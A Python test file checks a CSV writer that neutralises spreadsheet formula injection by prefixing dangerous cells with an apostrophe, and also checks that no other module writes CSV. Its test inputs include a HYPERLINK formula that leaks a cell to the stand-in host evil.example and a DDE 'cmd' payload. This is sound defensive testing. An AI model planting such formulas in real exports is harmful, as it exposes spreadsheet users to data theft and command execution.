"""The one CSV writer (benchmark.csv_tables): text a spreadsheet would run as a formula gets a
leading apostrophe (OWASP), numbers stay numbers, and no other module writes CSV."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from benchmark.csv_tables import CsvDictWriter, CsvWriter, csv_cell, csv_text

ROOT = Path(__file__).resolve().parents[2]
PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'


@pytest.mark.parametrize(
    "text",
    [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "=", "-inf", "- 3"],
)
def test_it_prefixes_text_that_starts_a_formula(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-0.5, -3, 0, 2.5, None, True, "-0.5", "+3", "-1e-4", "-.5", "12", ""])
def test_it_keeps_numbers_and_numeric_text_as_they_are(value) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize("text", ["a=b", "plain text", "'=already quoted", " =1+1", "x@y.org", "#comment"])
def test_it_leaves_other_text_alone(text: str) -> None:
    assert csv_cell(text) == text


def test_the_writer_neutralises_every_cell_and_reads_back_exactly() -> None:
    out = io.StringIO()
    w = CsvWriter(out)
    w.writerow(["name", "=bad", -1.5])
    w.writerows([[PAYLOAD, 'say "hi", then\nleave', -2], ["@x", "ok", 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "'=bad", "-1.5"],
        ["'" + PAYLOAD, 'say "hi", then\nleave', "-2"],
        ["'@x", "ok", "3"],
    ]


def test_the_dict_writer_neutralises_the_header_and_rows_written_one_by_one_or_together() -> None:
    out = io.StringIO()
    w = CsvDictWriter(out, fieldnames=["=head", "value"])
    w.writeheader()
    w.writerow({"=head": "+1+1", "value": -4})
    w.writerows([{"=head": PAYLOAD, "value": "-4"}])  # csv.DictWriter.writerows skips writerow: covered too
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=head", "value"],
        ["'+1+1", "-4"],
        ["'" + PAYLOAD, "-4"],
    ]


def test_csv_text_writes_a_header_and_rows() -> None:
    assert list(csv.reader(io.StringIO(csv_text(["a", "b"], [["=1", 2]])))) == [["a", "b"], ["'=1", "2"]]


def _csv_writers(path: Path) -> list[str]:
    """Places in a module that make a csv writer of the standard library (csv.writer, csv.DictWriter)."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
            if isinstance(node.value, ast.Name) and node.value.id == "csv":
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [
                f"{path.relative_to(ROOT)}:{node.lineno}" for a in node.names if a.name in ("writer", "DictWriter")
            ]
    return found


def test_no_module_of_the_app_writes_csv_but_the_writer() -> None:
    # A new export that used csv.writer directly would skip the neutralising: it fails here.
    modules = [
        p
        for app in ("accounts", "benchmark", "config", "judge", "review", "sandbox")
        for p in (ROOT / app).rglob("*.py")
        if "builtin" not in p.parts  # task evaluators run inside sandboxes and export nothing
    ]
    assert len(modules) > 100
    writers = [place for p in modules for place in _csv_writers(p)]
    assert writers and {w.split(":")[0] for w in writers} == {"benchmark/csv_tables.py"}, writers
